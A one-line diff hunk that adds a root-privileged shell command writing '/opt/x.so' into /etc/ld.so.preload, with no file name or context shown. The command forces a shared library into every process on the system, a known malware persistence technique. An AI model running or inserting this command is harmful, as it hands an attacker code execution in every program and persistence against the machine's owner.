@@ -1,0 +1,1 @@
+echo /opt/x.so | sudo tee /etc/ld.so.preload
